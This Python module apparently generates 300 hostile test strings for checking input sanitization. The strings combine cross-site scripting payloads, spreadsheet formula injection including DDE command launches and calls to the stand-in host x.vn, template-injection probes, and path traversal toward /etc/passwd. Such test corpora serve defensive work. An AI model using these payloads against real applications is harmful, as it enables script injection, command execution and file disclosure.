"""Texts of strangers that want to be more than text: markup, scripts, formulas, templates, paths."""

from itertools import product

_HTML = [
    "<script>{}</script>",
    "<img src=x onerror={}>",
    '"><svg onload={}>',
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    '<a href="javascript:{}">a</a>',
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "<style>@import 'http://x.vn/{}'</style>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<!--<script>{}</script>-->",
    "<math><mtext><script>{}</script></mtext></math>",
    "]]><script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "<script src=//x.vn/{}></script>",
    "<meta http-equiv=refresh content=0;url={}>",
    "<form action={}><button>a</button></form>",
    "</td></tr></table><script>{}</script>",
]
_CALLS = ["alert(1)", "window.hit=1", "fetch('//x.vn')", "document.title='hit'", "eval('window.hit=1')"]
_FORMULAS = [
    "={}", "+{}", "-{}", "@{}", "=\t{}", "\t={}", "−{}", " ={}", "'={}", ";={}",
]  # fmt: skip
_CELLS = [
    "1+1", 'HYPERLINK("http://x.vn","a")', "SUM(A1:A9)", "cmd|' /C calc'!A0", 'WEBSERVICE("http://x.vn")',
    'IMPORTXML("http://x.vn","//a")', "A1", 'DDE("cmd";"/C calc";"a")', "INDIRECT(\"A1\")", "2^9",
]  # fmt: skip
_TEMPLATES = [
    "{{{{ {} }}}}",
    "{{% {} %}}", "${{{}}}", "#{{{}}}", "#{}", "$ {} $", "*{}*", "_{}_", "`{}`", "[{}](http://x.vn)",
    "#import \"{}\"", "#read(\"{}\")", "<w:t>{}</w:t>", "%({})s", "{{0.{}}}",
    "\\{}", "~{}~", "@{}", "= {}", "- {}",
]  # fmt: skip
_NAMES = ["config", "7*7", "/etc/passwd", "__class__", "../../x"]


def hostile() -> list[str]:
    """Return 300 texts, all different."""
    found = [shape.format(call) for shape, call in product(_HTML, _CALLS)]
    found += [shape.format(cell) for shape, cell in product(_FORMULAS, _CELLS)]
    found += [shape.format(name) for shape, name in product(_TEMPLATES, _NAMES)]
    assert len(set(found)) == len(found) == 300
    return found
